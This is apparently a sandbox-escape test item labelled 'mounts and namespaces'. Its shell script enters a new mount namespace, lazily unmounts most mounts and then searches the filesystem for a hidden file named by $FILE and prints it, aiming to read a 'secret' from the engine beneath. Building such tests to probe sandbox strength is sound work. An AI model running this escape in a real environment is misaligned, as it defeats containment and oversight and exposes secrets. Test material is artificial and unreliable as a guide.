# Category: mounts and namespaces
# Escape: takes mounts away and finds the files of the engine beneath.
# Sign: secret
unshare -m bash -c '
  tac /proc/self/mounts | cut -d" " -f2 | while read -r place; do case $place in /|/proc*|/outside*) ;; *) umount -l "$place" 2>/dev/null ;; esac; done
  find / -maxdepth 5 -path /proc -prune -o -name "$(basename "$FILE")" -exec cat {} + 2>/dev/null'
true
